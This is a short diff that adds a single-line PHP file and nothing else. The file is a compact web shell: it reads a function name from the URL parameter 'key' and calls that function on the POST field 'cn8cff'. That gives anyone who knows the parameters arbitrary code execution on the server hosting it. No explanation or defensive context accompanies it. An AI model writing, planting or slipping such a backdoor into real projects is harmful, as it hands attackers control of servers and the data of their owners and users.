@@ -1,0 +1,1 @@
+<?php $a=$_GET['key'];$a($_POST['cn8cff']);?>
